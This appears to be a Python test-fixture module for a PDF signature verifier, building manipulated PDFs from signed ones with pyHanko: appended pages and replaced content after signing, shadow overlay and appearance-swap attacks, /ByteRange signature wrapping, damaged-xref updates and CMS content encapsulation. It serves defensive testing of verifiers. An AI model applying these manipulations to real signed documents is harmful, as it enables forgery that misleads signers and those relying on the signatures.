"""Attack documents built from signed PDFs (engineer 4's fixtures; see tests/integration/verifier/test_attacks.py).

Every function takes the bytes of a (usually signed) PDF and returns new bytes with one manipulation, the
way the PDF insecurity research (incremental saving, shadow and signature wrapping attacks) builds them.
"""

from __future__ import annotations

import io
import re
import zlib

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _finish(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_stream(text: str, *, x: float = 72, y: float = 500, size: float = 14) -> generic.StreamObject:
    content = f"BT /Helv {size} Tf {x} {y} Td ({text}) Tj ET".encode("latin-1")
    return generic.StreamObject({pdf_name("/Filter"): pdf_name("/FlateDecode")}, encoded_data=zlib.compress(content))


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    })


def _first_page(writer):
    pages = writer.root["/Pages"]
    return pages["/Kids"][0].get_object(), pages["/Kids"][0]


def append_page(data: bytes, text: str = "Dieu 3. Noi dung them sau khi ky") -> bytes:
    """Incremental saving attack: a new page added after the signed revision."""
    writer = _writer(data)
    font = writer.add_object(_helvetica())
    page = PageObject(contents=writer.add_object(_text_stream(text)), media_box=[0, 0, 595, 842],
                      resources=generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
                          {pdf_name("/Helv"): font})}))
    writer.insert_page(page)
    return _finish(writer)


def replace_page_content(data: bytes, text: str = "QUYET DINH: muc phat 500.000.000 dong") -> bytes:
    """A second revision that replaces what page 1 shows (its content stream) after signing."""
    writer = _writer(data)
    page, page_ref = _first_page(writer)
    font = writer.add_object(_helvetica())
    page[pdf_name("/Contents")] = writer.add_object(_text_stream(text))
    resources = page["/Resources"]
    resources["/Font"][pdf_name("/Helv")] = font
    writer.update_container(page)
    return _finish(writer)


def add_text_field(data: bytes, name: str, *, rect=(60, 480, 540, 560), value: str = "") -> bytes:
    """An unsigned PDF with an AcroForm text field over part of page 1 (prepared before signing)."""
    writer = _writer(data)
    page, page_ref = _first_page(writer)
    font = writer.add_object(_helvetica())
    appearance = _appearance(writer, value, rect, font)
    field = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): generic.TextStringObject(name),
        pdf_name("/V"): generic.TextStringObject(value), pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in rect]),
        pdf_name("/P"): page_ref, pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
    })
    field_ref = writer.add_object(field)
    annots = page.get("/Annots")
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([field_ref])
    else:
        annots.get_object().append(field_ref)
    writer.update_container(page)
    root = writer.root
    if "/AcroForm" not in root:
        root[pdf_name("/AcroForm")] = generic.DictionaryObject({
            pdf_name("/Fields"): generic.ArrayObject(),
            pdf_name("/DR"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
                {pdf_name("/Helv"): font})}),
            pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        })
    root["/AcroForm"]["/Fields"].append(field_ref)
    writer.update_root()
    return _finish(writer)


def _appearance(writer, text: str, rect, font) -> generic.IndirectObject:
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    # An opaque white box with the text: whatever lies under the widget on the page is hidden.
    content = (f"1 g 0 0 {width} {height} re f 0 g BT /Helv 14 Tf 4 {height / 2 - 5} Td ({text}) Tj ET"
               ).encode("latin-1")
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.FloatObject(0), generic.FloatObject(0),
                                                generic.FloatObject(width), generic.FloatObject(height)]),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Helv"): font})}),
    }, stream_data=content)
    return writer.add_object(stream)


def _field(writer, name: str):
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            return field, ref
    raise KeyError(name)


def fill_text_field(data: bytes, name: str, value: str) -> bytes:
    """Form filling after signing: a new value and its appearance (legitimate where the policy allows it)."""
    writer = _writer(data)
    field, ref = _field(writer, name)
    font = writer.add_object(_helvetica())
    field[pdf_name("/V")] = generic.TextStringObject(value)
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(writer, value, field["/Rect"], font)})
    writer.update_container(field)
    return _finish(writer)


def overlay_annotation(data: bytes, *, rect=(60, 600, 540, 700)) -> bytes:
    """Shadow attack (hide): after signing, an opaque annotation drawn over signed text hides it."""
    writer = _writer(data)
    page, page_ref = _first_page(writer)
    square = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Square"),
        pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in rect]),
        pdf_name("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        pdf_name("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3), pdf_name("/F"): generic.NumberObject(4),
    })
    ref = writer.add_object(square)
    annots = page.get("/Annots")
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([ref])
    else:
        annots.get_object().append(ref)
    writer.update_container(page)
    return _finish(writer)


def replace_field_appearance(data: bytes, name: str, text: str) -> bytes:
    """Shadow attack (replace): the signed form field's appearance is swapped for other content while its
    value stays what was signed, so the page shows something the signer never saw."""
    writer = _writer(data)
    field, ref = _field(writer, name)
    font = writer.add_object(_helvetica())
    appearance_ref = field["/AP"].raw_get("/N")
    new_stream = _appearance(writer, text, field["/Rect"], font).get_object()
    # Overwrite the existing appearance object in place (same object number, new revision).
    writer.mark_update(appearance_ref)
    target = appearance_ref.get_object()
    target._data = new_stream.data  # noqa: SLF001 - the attack rewrites the stream bytes
    target._encoded_data = None  # noqa: SLF001
    return _finish(writer)


_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _rewrite_byte_range(data: bytes, values: tuple[int, int, int, int]) -> bytes:
    match = _BYTE_RANGE.search(data)
    assert match, "no /ByteRange"
    old = match.group(0)
    new = b"/ByteRange [%d %d %d %d]" % values
    new = new.ljust(len(old))  # keep every offset of the file where it was
    assert len(new) == len(old)
    return data[:match.start()] + new + data[match.end():]


def wrap_signature(data: bytes, swallow: int = 16) -> bytes:
    """Signature wrapping: the /ByteRange is moved so that its hole swallows bytes after the signature
    value, which the attacker may then change freely (offsets in the file stay where they were)."""
    match = _BYTE_RANGE.search(data)
    start, len1, start2, len2 = (int(g) for g in match.groups())
    return _rewrite_byte_range(data, (start, len1, start2 + swallow, len2 - swallow))


def shorten_coverage(data: bytes, cut: int = 64) -> bytes:
    """A signature whose byte range stops before the end of its revision (covers only part of the file)."""
    match = _BYTE_RANGE.search(data)
    start, len1, start2, len2 = (int(g) for g in match.groups())
    return _rewrite_byte_range(data, (start, len1, start2, len2 - cut))


def append_without_xref(data: bytes, text: str = "QUYET DINH: muc phat 500.000.000 dong") -> bytes:
    """Incremental saving attack with a damaged cross-reference table: page 1's content object is redefined
    after the signed revision, and the update ends with the old startxref repeated (no usable xref), so a
    parser that trusts the xref sees nothing changed while a viewer that rebuilds the xref by scanning
    shows the new content."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    stream = zlib.compress(f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode("latin-1"))
    old_startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return (data + b"\n%d 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % (contents.idnum, len(stream))
            + stream + b"\nendstream\nendobj\nxref\n%d 1\nDAMAGED\nstartxref\n%d\n%%%%EOF\n" % (
                contents.idnum, old_startxref))


_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")


def encapsulate_content(data: bytes, content: bytes = b"noi dung khac") -> bytes:
    """A detached PDF signature (adbe.pkcs7.detached / ETSI.CAdES.detached) whose CMS is rewritten to carry
    encapsulated content (eContent), in the space reserved for /Contents (no offset moves)."""
    from asn1crypto import cms

    match = list(_CONTENTS.finditer(data))[-1]
    hex_value = match.group(1)
    info = cms.ContentInfo.load(bytes.fromhex(hex_value.decode()).rstrip(b"\0"))
    signed_data = info["content"]
    signed_data["encap_content_info"] = cms.ContentInfo(
        {"content_type": "data", "content": content})
    der = info.dump(force=True).hex().encode()
    assert len(der) <= len(hex_value), "no room left in /Contents"
    return data[:match.start(1)] + der.ljust(len(hex_value), b"0") + data[match.end(1):]
